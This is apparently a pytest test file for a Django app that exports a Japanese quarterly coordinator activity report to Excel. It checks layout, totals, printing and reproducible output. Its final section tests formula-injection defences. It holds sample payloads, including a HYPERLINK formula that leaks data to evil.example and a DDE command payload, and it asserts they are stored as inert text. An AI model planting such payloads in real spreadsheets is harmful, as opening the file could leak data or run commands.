"""The Excel report, read back with openpyxl (and printed by LibreOffice) as a user would see it."""

import re
import subprocess
import time
import zipfile
from dataclasses import replace
from datetime import UTC, date, datetime
from io import BytesIO
from zoneinfo import ZoneInfo

import pytest
from django.utils import timezone
from openpyxl import load_workbook

from coordination.fiscal import FiscalPeriod
from reporting.quarterly import build_quarterly_report
from reporting.render.xlsx import render
from reporting.tables import EventSection, EventTable, Report, Row, Section

pytestmark = pytest.mark.django_db

AGE_KEYS = ("clients", "contacts", "with_care", "without_care")
AGE_HEADINGS = ("相談対象 (実人数)", "相談数 (延べ件数)", "医ケア 有", "医ケア 無")
LONG_TEXT = "、".join(["訪問看護ステーション変更希望の相談や後任ステーション探し"] * 6)


def ages(clients, contacts, with_care, without_care) -> dict[str, int]:
    return dict(zip(AGE_KEYS, (clients, contacts, with_care, without_care)))


def small_report(section_3_rows=None) -> Report:
    section_1 = Section(
        1,
        "相談対象者 (実人数)",
        AGE_KEYS,
        (
            Row(("未就学児",), ages(2, 5, 1, 1), key="preschool"),
            Row(("就学児", "小学生"), ages(3, 7, 2, 1), key="elementary"),
            Row(("就学児", "中学生"), ages(1, 1, 1, 0), key="junior_high"),
            Row(("不明",), ages(0, 0, 0, 0), key="unknown"),
        ),
        headings=AGE_HEADINGS,
    )
    section_3 = Section(
        3,
        "相談者および機関数 (延べ件数)",
        ("count",),
        section_3_rows
        or (
            Row(("当事者", "親", "母"), {"count": 4}, key="party-parent-mother"),
            Row(("当事者", "親", "父"), {"count": 1}, key="party-parent-father"),
            Row(("当事者", "本人"), {"count": 0}, key="party-self"),
            Row(("医療機関", "訪問看護"), {"count": 3}, "さくら訪問看護ステーション", key="medical-visiting-nurse"),
        ),
        has_text=True,
        headings=("件数",),
        text_heading="相手先や主な内容",
    )
    section_5 = Section(
        5,
        "相談・活動の種別（延べ件数）",
        ("count",),
        (Row(("在宅医療", "訪問看護"), {"count": 61}, LONG_TEXT, key="home-medical-nursing"),),
        has_text=True,
        headings=("件数",),
        text_heading="主な内容",
    )
    meetings = EventTable(
        "会議",
        ("会議参加", "会議名", "開催日", "方法・会場", "主な議題", "対象", "参加者数"),
        (("参加", "区立園長会", "5月8日", "対面・北とぴあ", "事業報告", "区立園長", "30名程度"),),
    )
    return Report(
        title="業務報告書 ( 令和7年度 第1四半期：2025年4月1日～2025年6月30日現在 )",
        office="テスト区医療的ケア児等コーディネーター事業",
        schedule="月・水・金 9:00～17:00",
        fiscal_year=2025,
        quarters=(1, 1),
        start=date(2025, 4, 1),
        end=date(2025, 6, 30),
        business_days=38,
        out_of_hours=3,
        activities=40,
        sections=(section_1, section_3, section_5),
        event_sections=(EventSection(6, "ネットワーク構築（情報収集・連絡・調整・会議等）", (meetings,)),),
        footnotes=("年齢区分は年度初日（4月1日）時点",),
    )


def read(data: bytes):
    return load_workbook(BytesIO(data))["業務報告書"]


def column_a(ws) -> list:
    return [ws.cell(row, 1).value for row in range(1, ws.max_row + 1)]


def merged_range(ws, row, column):
    return next((cells for cells in ws.merged_cells.ranges if (row, column) in cells.cells), None)


def path(ws, row) -> tuple[str, ...]:
    """The labels of a table row, reading a merged label from the cell that holds it."""
    anchors = []
    for column in (1, 2, 3):
        cells = merged_range(ws, row, column)
        anchor = (cells.min_row, cells.min_col) if cells else (row, column)
        if anchor not in anchors:
            anchors.append(anchor)
    return tuple(value for anchor in anchors if (value := ws.cell(*anchor).value))


def heading_row(ws, number) -> int:
    return next(row for row, value in enumerate(column_a(ws), start=1) if str(value or "").startswith(f"{number}. "))


def counted_table(ws, number) -> tuple[dict, list]:
    """A counted section as {path: cells from column D on} and its 合計 row's cells."""
    rows, row = {}, heading_row(ws, number) + 2
    while ws.cell(row, 1).value != "合計":
        rows[path(ws, row)] = [ws.cell(row, column).value for column in range(4, ws.max_column + 1)]
        row += 1
    return rows, [ws.cell(row, column).value for column in range(4, ws.max_column + 1)]


def event_tables(ws, number) -> list[list[tuple[str, ...]]]:
    """Each event table of a section as its rows (the header first), read at the header's cells."""
    tables, row = [], heading_row(ws, number) + 1
    while ws.cell(row, 1).value and not str(ws.cell(row, 1).value).startswith(f"{number + 1}. "):
        columns = [column for column in range(1, ws.max_column + 1) if ws.cell(row, column).value]
        table = []
        while ws.cell(row, 1).value:
            table.append(tuple(ws.cell(row, column).value or "" for column in columns))
            row += 1
        tables.append(table)
        row += 1
    return tables


def test_the_sheet_opens_with_the_title_and_the_header_lines():
    ws = read(render(small_report()))
    assert ws.title == "業務報告書"
    assert ws["A1"].value == "業務報告書 ( 令和7年度 第1四半期：2025年4月1日～2025年6月30日現在 )"
    assert ws["A1"].font.b
    assert column_a(ws)[1:5] == [
        "テスト区医療的ケア児等コーディネーター事業",
        "月・水・金 9:00～17:00",
        "38 営業日",
        "時間外の活動：3回 / 40回",
    ]
    assert ws["A1"].font.name == "IPAexGothic"


def test_sections_follow_in_order_and_the_footnote_comes_last():
    texts = [value for value in column_a(read(render(small_report()))) if value]
    headings = [text for text in texts if re.match(r"\d\. ", text)]
    assert headings == [
        "1. 相談対象者 (実人数)",
        "3. 相談者および機関数 (延べ件数)",
        "5. 相談・活動の種別（延べ件数）",
        "6. ネットワーク構築（情報収集・連絡・調整・会議等）",
    ]
    assert texts[-1] == "※年齢区分は年度初日（4月1日）時点"


def test_a_group_label_is_one_cell_merged_down_its_rows():
    ws = read(render(small_report()))
    first = heading_row(ws, 1) + 3  # heading, column headings, 未就学児
    assert ws.cell(first, 1).value == "就学児"
    assert merged_range(ws, first, 1).coord == f"A{first}:A{first + 1}"
    parent = heading_row(ws, 3) + 2
    assert ws.cell(parent, 1).value == "当事者" and merged_range(ws, parent, 1).coord == f"A{parent}:A{parent + 2}"
    assert ws.cell(parent, 2).value == "親" and merged_range(ws, parent, 2).coord == f"B{parent}:B{parent + 1}"


def test_a_leaf_with_a_shorter_path_spans_the_remaining_label_columns():
    ws = read(render(small_report()))
    row = heading_row(ws, 1) + 2
    assert ws.cell(row, 1).value == "未就学児" and merged_range(ws, row, 1).coord == f"A{row}:C{row}"
    assert ws.cell(row + 1, 2).value == "小学生" and merged_range(ws, row + 1, 2).coord == f"B{row + 1}:C{row + 1}"
    rows, _ = counted_table(ws, 3)
    assert list(rows) == [("当事者", "親", "母"), ("当事者", "親", "父"), ("当事者", "本人"), ("医療機関", "訪問看護")]


def test_the_columns_are_headed_as_in_the_printed_report():
    ws = read(render(small_report()))
    headings = [ws.cell(heading_row(ws, 1) + 1, column).value for column in range(4, 8)]
    assert [heading.replace("\n", " ") for heading in headings] == [
        "相談対象 (実人数)",
        "相談数 (延べ件数)",
        "医ケア 有",
        "医ケア 無",
    ]
    assert headings[0] == "相談対象\n(実人数)"  # broken before the bracket to fit the narrow column
    header = heading_row(ws, 3) + 1
    assert [ws.cell(header, column).value for column in (4, 5)] == ["件数", "相手先や主な内容"]
    assert ws.cell(heading_row(ws, 5) + 1, 5).value == "主な内容"


def test_counts_are_stored_as_numbers_not_formulas():
    ws = read(render(small_report()))
    rows, total = counted_table(ws, 1)
    assert rows[("就学児", "小学生")][:4] == [3, 7, 2, 1]
    assert total[:4] == [6, 13, 4, 2]
    numbers = [cell for row in ws.iter_rows() for cell in row if isinstance(cell.value, int)]
    assert numbers and all(cell.data_type == "n" for cell in numbers)
    assert not [cell for row in ws.iter_rows() for cell in row if cell.data_type == "f"]


def test_the_total_row_is_bold_and_boxed():
    ws = read(render(small_report()))
    row = column_a(ws).index("合計") + 1
    assert ws.cell(row, 1).value == "合計" and all(ws.cell(row, column).font.b for column in (1, 4, 5, 6, 7))
    assert ws.cell(row, 4).border.top.style == "thin" and ws.cell(row, 4).border.bottom.style == "thin"


def test_a_long_text_wraps_in_its_cell_and_its_row_grows():
    ws = read(render(small_report()))
    row = heading_row(ws, 5) + 2
    text = ws.cell(row, 5)
    assert text.value == LONG_TEXT and text.alignment.wrap_text
    assert ws.row_dimensions[row].height > 2 * ws.row_dimensions[row + 1].height  # the 合計 row below


def test_it_prints_on_a4_portrait_fitted_to_one_page_width():
    ws = read(render(small_report()))
    assert str(ws.page_setup.paperSize) == ws.PAPERSIZE_A4
    assert ws.page_setup.orientation == "portrait"
    assert ws.sheet_properties.pageSetUpPr.fitToPage
    assert (ws.page_setup.fitToWidth, ws.page_setup.fitToHeight) == (1, 0)


def test_every_printed_page_repeats_the_title_and_numbers_the_pages():
    ws = read(render(small_report()))
    assert ws.print_title_rows == "$1:$1"
    assert "&P / &N" in ws.oddFooter.center.text


def test_the_file_is_dated_when_it_was_made():
    before = timezone.now().astimezone(UTC).replace(tzinfo=None, microsecond=0)
    properties = load_workbook(BytesIO(render(small_report()))).properties
    after = timezone.now().astimezone(UTC).replace(tzinfo=None)
    assert before <= properties.created <= after  # not the period's end (2025-06-30)
    assert properties.modified == properties.created


def test_the_same_report_made_at_the_same_time_gives_the_same_bytes_whatever_the_clock(monkeypatch):
    report = small_report()
    finalized_at = datetime(2025, 7, 3, 10, 15, 30, tzinfo=ZoneInfo("Asia/Tokyo"))
    first = render(report, made_at=finalized_at)
    later = time.time() + 3 * 86400
    monkeypatch.setattr(time, "time", lambda: later)
    assert render(report, made_at=finalized_at) == first
    properties = load_workbook(BytesIO(first)).properties
    assert properties.created == properties.modified == datetime(2025, 7, 3, 1, 15, 30)  # UTC, as Excel stores it
    assert {entry.date_time for entry in zipfile.ZipFile(BytesIO(first)).infolist()} == {(2025, 7, 3, 10, 15, 30)}


def test_the_previous_period_columns_hold_last_years_numbers():
    report = small_report()
    previous = small_report(
        section_3_rows=(
            Row(("当事者", "親", "お母さん"), {"count": 9}, key="party-parent-mother"),  # renamed since: matched by key
            Row(("当事者", "本人"), {"count": 2}),  # no key: matched by path
            Row(("医療機関", "訪問看護"), {"count": 5}, key="medical-visiting-nurse"),
        )
    )
    ws = read(render(report, previous))
    header = heading_row(ws, 3) + 1
    assert [ws.cell(header, column).value for column in (4, 5, 6)] == ["件数", "前年同期", "相手先や主な内容"]
    rows, total = counted_table(ws, 3)
    assert {label: cells[:2] for label, cells in rows.items()} == {
        ("当事者", "親", "母"): [4, 9],
        ("当事者", "親", "父"): [1, "—"],
        ("当事者", "本人"): [0, 2],
        ("医療機関", "訪問看護"): [3, 5],
    }
    assert total[:2] == [8, 16]
    ages_header = [ws.cell(heading_row(ws, 1) + 1, column).value for column in range(8, 12)]
    assert [heading.replace("\n", " ") for heading in ages_header] == [
        "前年同期 相談対象 (実人数)",
        "前年同期 相談数 (延べ件数)",
        "前年同期 医ケア 有",
        "前年同期 医ケア 無",
    ]
    assert counted_table(ws, 1)[0][("就学児", "小学生")][:8] == [3, 7, 2, 1, 3, 7, 2, 1]


def test_without_a_previous_period_there_is_no_previous_column():
    ws = read(render(small_report()))
    assert "前年同期" not in {cell.value for row in ws.iter_rows() for cell in row}


def test_the_demo_report_has_the_seed_header_and_totals(demo_office):
    ws = read(render(build_quarterly_report(demo_office, FiscalPeriod(2025, 1, 3))))
    assert "104 営業日" in column_a(ws)
    assert "時間外の活動：123回 / 459回" in column_a(ws)

    _, total = counted_table(ws, 1)
    assert total[:4] == [32, 282, 26, 6]
    rows, total = counted_table(ws, 2)
    assert {label: cells[0] for label, cells in rows.items()} == {
        ("王子地区",): 13,
        ("赤羽地区",): 14,
        ("滝野川地区",): 2,
        ("区外",): 3,
        ("不明",): 0,
    }
    assert total[0] == 32
    for number, count, leaves in [(3, 434, 37), (4, 431, 16), (5, 463, 63)]:
        rows, total = counted_table(ws, number)
        assert (total[0], len(rows)) == (count, leaves)
    assert counted_table(ws, 3)[0][("当事者", "親", "母")][0] == 124


def test_the_demo_events_are_listed_in_date_order_within_their_scope(demo_office):
    report = build_quarterly_report(demo_office, FiscalPeriod(2025, 1, 3))
    ws = read(render(report))
    for section in report.event_sections[:2]:
        tables = event_tables(ws, section.number)
        assert tables == [[table.columns, *table.rows] for table in section.tables]
        for table in tables:
            dates = [tuple(map(int, re.match(r"(\d+)月(\d+)日", row[2]).groups())) for row in table[1:]]
            # §6's outreach: 区内 before 区外, as the seed; by date within each
            scopes = [row[0] != "区内" if table[0][0] == "周知活動等" else 0 for row in table[1:]]
            fiscal_order = [(scope, month < 4, month, day) for scope, (month, day) in zip(scopes, dates)]
            assert fiscal_order == sorted(fiscal_order)
    assert [len(table) - 1 for table in event_tables(ws, 6) + event_tables(ws, 7)] == [5, 20, 3]


def test_libreoffice_prints_the_demo_report_on_a4_with_its_japanese_text(demo_office, tmp_path):
    workbook = tmp_path / "report.xlsx"
    workbook.write_bytes(render(build_quarterly_report(demo_office, FiscalPeriod(2025, 1, 3))))
    subprocess.run(
        [
            "soffice",
            f"-env:UserInstallation=file://{tmp_path}/libreoffice",
            "--headless",
            "--convert-to",
            "pdf",
            "--outdir",
            str(tmp_path),
            str(workbook),
        ],
        check=True,
        capture_output=True,
        timeout=120,
        env={"HOME": str(tmp_path), "PATH": "/usr/bin:/bin"},
    )
    pdf = tmp_path / "report.pdf"
    info = subprocess.run(["pdfinfo", str(pdf)], check=True, capture_output=True, text=True).stdout
    assert re.search(r"Page size:\s+595\.\d+ x 841\.\d+ pts \(A4\)", info)
    text = subprocess.run(["pdftotext", "-layout", str(pdf), "-"], check=True, capture_output=True, text=True).stdout
    assert "業務報告書" in text and "合計" in text
    assert "北区医療的ケア児等コーディネーター事業" in text
    assert re.search(r"\b1 ?/ ?\d", text)  # the page number in the footer


# --- formulas: an attacker's text is shown, never run ---------------------------------------------

HYPERLINK = '=HYPERLINK("http://evil.example/?leak","詳細")'
# (A carriage return would come back as a line feed: XML normalises line ends.)
HOSTILE = (HYPERLINK, "+SUM(1)", "-1+2", "@SUM(A1)", "\t=1+1", "  =cmd|' /C calc'!A0")


def formula_cells(ws) -> list[str]:
    return [cell.coordinate for row in ws.iter_rows() for cell in row if cell.data_type == "f"]


def all_values(ws) -> list:
    return [cell.value for row in ws.iter_rows() for cell in row if cell.value is not None]


def test_hostile_texts_anywhere_in_the_report_are_written_as_text_not_formulas():
    report = small_report(
        section_3_rows=tuple(
            Row(("医療機関", f"機関{index}"), {"count": 1}, text, key=f"hostile-{index}")
            for index, text in enumerate(HOSTILE)
        )
    )
    meetings = EventTable(
        "会議", ("会議参加", "会議名", "開催日", "方法・会場"), ((HOSTILE[1], HYPERLINK, "5月8日", "@x"),)
    )
    report = replace(
        report,
        office=HYPERLINK,
        schedule="+81 3 0000",
        event_sections=(EventSection(6, "ネットワーク構築", (meetings,)),),
    )
    ws = read(render(report))
    # The report writes no formula of its own: its totals are numbers.
    assert formula_cells(ws) == []
    values = all_values(ws)
    for text in (*HOSTILE, "@x", "+81 3 0000"):
        assert "'" + text in values
        assert text not in values


def test_an_event_named_like_a_formula_is_shown_as_text_in_the_downloaded_report(demo_office, coordinator):
    from coordination.events.models import EventKind
    from coordination.events.services import event_create

    event_create(
        office=demo_office,
        user=coordinator,
        kind=EventKind.MEETING,
        name=HYPERLINK,
        held_on=date(2025, 5, 9),
        method_venue="=1+1",
        topic="@SUM(A1)",
    )
    ws = read(render(build_quarterly_report(demo_office, FiscalPeriod(2025, 1, 1))))
    assert formula_cells(ws) == []
    values = all_values(ws)
    assert {"'" + HYPERLINK, "'=1+1"} <= set(values)
    assert HYPERLINK not in values
